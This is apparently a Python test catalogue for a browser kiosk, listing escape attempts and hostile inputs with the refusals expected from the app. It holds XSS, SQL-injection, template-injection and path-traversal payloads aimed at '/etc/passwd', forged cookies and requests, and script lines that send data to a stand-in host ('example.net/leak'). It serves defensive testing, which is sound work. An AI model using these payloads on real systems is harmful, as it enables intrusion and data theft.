"""The catalogue of ways out of the kiosk, one line each. Every one must end inside.

`HANDS` are tried with a finger, keys or a scanner on the kiosk's own pages; `TEXTS` are put into
every field and every scan; `WIRES` are requests that no page of ours sends.
"""

from collections.abc import Awaitable, Callable, Mapping
from typing import Final, NamedTuple

from playwright.async_api import Page

Hand = Callable[[Page], Awaitable[object]]


def keys(*names: str) -> Hand:
    """Press these, one after the other."""

    async def press(page: Page) -> None:
        for name in names:
            await page.keyboard.press(name)

    return press


def script(text: str) -> Hand:
    """What a foothold in the page itself would try; refused or without effect."""

    async def run(page: Page) -> None:
        await page.evaluate("(text) => { try { (0, eval)(text) } catch (error) {} }", text)

    return run


def mouse(button: str, *, hold_ms: int = 0) -> Hand:
    """Press a button of a mouse that somebody brought, on a tile."""

    async def press(page: Page) -> None:
        tile = page.locator("a[href^='/kiosk/']").first
        await tile.hover()
        await page.mouse.down(button=button)  # type: ignore[arg-type]
        await page.wait_for_timeout(hold_ms)
        await page.mouse.move(2, 2)
        await page.mouse.up(button=button)  # type: ignore[arg-type]

    return press


async def drag_link(page: Page) -> None:
    """Drag a tile to where a tab bar would be."""
    box = await page.locator("a[href^='/kiosk/']").first.bounding_box()
    assert box is not None
    await page.mouse.move(box["x"] + 20, box["y"] + 20)
    await page.mouse.down()
    await page.mouse.move(400, 2, steps=8)
    await page.mouse.up()


DROP: Final = """(kind) => {
  const data = new DataTransfer();
  if (kind === "file") data.items.add(new File(["<h1>x</h1>"], "evil.html", {type: "text/html"}));
  else data.setData("text/uri-list", "https://example.net/");
  for (const name of ["dragenter", "dragover", "drop"]) document.getElementById("main")
    .dispatchEvent(new DragEvent(name, {dataTransfer: data, bubbles: true, cancelable: true}));
}"""
TOUCHES: Final = """(count) => {
  const place = document.getElementById("main");
  const at = (step) => [...Array(count).keys()].map((id) => new Touch(
    {identifier: id, target: place, clientX: 200 + id * 40 * step, clientY: 300 + step}));
  for (const [step, name] of ["touchstart", "touchmove", "touchmove", "touchend"].entries())
    place.dispatchEvent(new TouchEvent(name, {bubbles: true, cancelable: true, touches: at(step),
      changedTouches: at(step)}));
}"""


def dropped(kind: str) -> Hand:
    return lambda page: page.evaluate(DROP, kind)


def fingers(count: int) -> Hand:
    return lambda page: page.evaluate(TOUCHES, count)


async def wheel_zoom(page: Page) -> None:
    await page.keyboard.down("Control")
    await page.mouse.wheel(0, -600)
    await page.keyboard.up("Control")


async def triple_tap(page: Page) -> None:
    """Select a paragraph, copy it, and paste it where nothing can be written."""
    await page.locator("h1").first.click(click_count=3)
    await keys("Control+C", "Control+V")(page)


async def back_and_forward(page: Page) -> None:
    """The keys and the buttons of a mouse that lead through a history."""
    for name in ("Alt+ArrowLeft", "Alt+ArrowRight", "Backspace"):
        await page.keyboard.press(name)


async def modified_clicks(page: Page) -> None:
    """A tile touched while a key of a keyboard is held: a new tab, a new window, a download."""
    for key in ("Control", "Shift", "Alt", "Meta"):
        await page.locator("a[href^='/kiosk/']").first.click(modifiers=[key])


HANDS: Final[Mapping[str, Hand]] = {
    "long press": mouse("left", hold_ms=700),
    "context menu by mouse": mouse("right"),
    "new tab by middle button": mouse("middle"),
    "context menu by key": keys("ContextMenu", "Shift+F10"),
    "new tab, window, download by a held key": modified_clicks,
    "drag a link away": drag_link,
    "drop a file": dropped("file"),
    "drop an address": dropped("address"),
    "pinch": fingers(2),
    "five fingers": fingers(5),
    "zoom by wheel": wheel_zoom,
    "zoom by keys": keys("Control+Equal", "Control+Minus", "Control+0"),
    "select all": keys("Control+A", "Control+C", "Delete"),
    "triple tap and paste": triple_tap,
    "print": keys("Control+P"),
    "save": keys("Control+S"),
    "open a file": keys("Control+O"),
    "view source": keys("Control+U"),
    "find in page": keys("Control+F", "F3"),
    "address bar": keys("Control+L", "Alt+D", "F6"),
    "developer tools": keys("F12", "Control+Shift+I", "Control+Shift+J", "Control+Shift+C"),
    "new window": keys("Control+N", "Control+T", "Control+Shift+N", "Control+Shift+T"),
    "close and quit": keys("Control+W", "Alt+F4", "Control+Q"),
    "help and menu": keys("F1", "F10", "Alt+F", "Alt+E"),
    "full screen and caret": keys("F11", "F7"),
    "reload": keys("F5", "Control+R", "Control+Shift+R"),
    "history, downloads, bookmarks": keys("Control+H", "Control+J", "Control+D", "Control+Shift+O"),
    "back and forward": back_and_forward,
    "task keys": keys("Meta", "Alt+Tab", "Control+Escape", "Escape"),
    "script address": script("location.href = 'javascript:document.body.textContent=1'"),
    "data address": script("location.href = 'data:text/html,<h1>out</h1>'"),
    "file address": script("location.href = 'file:///etc/passwd'"),
    "source address": script("location.href = 'view-source:' + location.href"),
    "settings address": script("location.href = 'chrome://settings'"),
    "frame": script("document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: 'https://example.net/'}))"),
    "written mark-up": script("document.body.innerHTML = '<img src=x onerror=alert(1)>'"),
    "foreign form": script("const f = document.createElement('form'); f.method = 'post';"
        " f.action = 'https://example.net/'; document.body.append(f); HTMLFormElement.prototype"
        ".submit.call(f)"),
    "foreign picture": script("new Image().src = 'https://example.net/leak?x=1'"),
    "foreign fetch": script("fetch('https://example.net/leak').catch(() => 0)"),
    "full screen by script": script("document.documentElement.requestFullscreen().catch(() => 0)"),
}  # fmt: skip

UNGUARDED: Final = ("Escape", "Backspace", "Delete", "Meta", "Control", "Shift", "Alt", "Tab")
"""Keys that open nothing by themselves, or never reach a page."""

POLICED: Final = frozenset({"script address", "frame", "written mark-up", "foreign form",
    "foreign picture", "foreign fetch", "data address", "file address", "source address",
    "settings address"})  # fmt: skip
"""Attempts of script in our own page: the browser's refusal of them in the console is the point."""

TEXTS: Final[Mapping[str, str]] = {
    "address": "https://example.net/",
    "telephone": "tel:113",
    "message": "sms:113?body=x",
    "script": "javascript:alert(document.cookie)",
    "mark-up": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "template": "{{ 7*7 }}${7*7}{% for a in b %}#{7*7}",
    "database": "' OR 1=1; DROP TABLE dossier; --",
    "path": "../../../../etc/passwd\\..\\..",
    "control characters": "0\x01\x02\x08\x1b[2J\x7f1",
    "keys of a bar code": "\x1b\x10\x05\x16\x0f",
    "right to left": "\u202e079190000017\u202c\u2066x\u2069",
    "zero width": "07\u200b91\u200d90\ufeff000017\u2060",
    "stacked accents": "a" + "\u0323\u0302\u0301" * 200,
    "emoji": "👩\u200d👩\u200d👧\u200d👦🇻🇳🧑🏽\u200d🦽",
    "giant": "Nguyễn" * 600,
    "lines": "one\r\ntwo\nSet-Cookie: a=b\r\n\r\n",
    "nothing but blanks": "\u00a0\u2003\u3000\t ",
    "wi-fi": "WIFI:T:WPA;S:free;P:x;;",
    "contact": "BEGIN:VCARD\nFN:x\nTEL:113\nEND:VCARD",
    "spreadsheet": '=HYPERLINK("https://example.net","x")',
}


class Wire(NamedTuple):
    """A request by hand, and the statuses that are a good answer to it."""

    method: str
    path: str
    expected: tuple[int, ...]
    headers: Mapping[str, str] = {}
    body: bytes = b""


FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}
OWN: Final = {**FORM, "Sec-Fetch-Site": "same-origin"}
WIRES: Final[Mapping[str, Wire]] = {
    "path out of static": Wire("GET", "/static/../../../../etc/passwd", (403, 404)),
    "encoded path": Wire("GET", "/static/%2e%2e/%2e%2e/etc/passwd", (403, 404)),
    "double encoded path": Wire("GET", "/static/%252e%252e%252fetc%252fpasswd", (403, 404)),
    "zero in the path": Wire("GET", "/kiosk/procedures/a%00b", (400, 422, 404)),
    "foreign site's form": Wire("POST", "/kiosk/start", (403,),
        {**FORM, "Sec-Fetch-Site": "cross-site", "Origin": "https://example.net"},
        b"procedure=res-temporary"),
    "form without origin": Wire("POST", "/kiosk/start", (403,), FORM, b"procedure=res-temporary"),
    "method override": Wire("POST", "/kiosk", (403, 404, 405),
        {**OWN, "X-HTTP-Method-Override": "DELETE"}, b"_method=DELETE"),
    "wrong method": Wire("DELETE", "/kiosk", (403, 405), {"Sec-Fetch-Site": "same-origin"}),
    "too large a form": Wire("POST", "/kiosk/start", (400, 413), OWN, b"a=" + b"x" * 600_000),
    "too many fields": Wire("POST", "/kiosk/start", (400, 413), OWN,
        "&".join(f"f{n}=1" for n in range(3000)).encode()),
    "files in a form": Wire("POST", "/kiosk/start", (400, 404, 413),
        {"Sec-Fetch-Site": "same-origin", "Content-Type": "multipart/form-data; boundary=x"},
        b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\nc\r\n--x--\r\n'),
    "unknown procedure": Wire("POST", "/kiosk/start", (400, 404, 422), OWN,
        b"procedure=../../etc/passwd"),
    "forged draft": Wire("GET", "/kiosk/check", (303, 422, 404, 410),
        {"Cookie": "kiosk_draft=" + "0" * 64}),
    "giant cookie": Wire("GET", "/kiosk/check", (303, 400, 422, 404, 410, 431),
        {"Cookie": "kiosk_draft=" + "A" * 6000}),
    "forged number": Wire("GET", "/kiosk/ticket/done", (303, 404, 422),
        {"Cookie": "kiosk_ticket=no-service:0"}),
    "counter without a session": Wire("GET", "/counter", (303,)),
    "counter with a forged session": Wire("GET", "/counter/dossiers", (303,),
        {"Cookie": "counter_session=" + "0" * 64}),
    "dossiers without a token": Wire("GET", "/api/v1/dossiers/T26560-7KXM-00001-3", (401, 403)),
    "live channel of the counter": Wire("GET", "/live/counter", (200, 303, 401, 403, 404)),
    "no such channel": Wire("GET", "/live/../../secret", (303, 401, 403, 404)),
    "foreign host": Wire("GET", "/kiosk", (200, 400, 421), {"Host": "example.net"}),
}  # fmt: skip
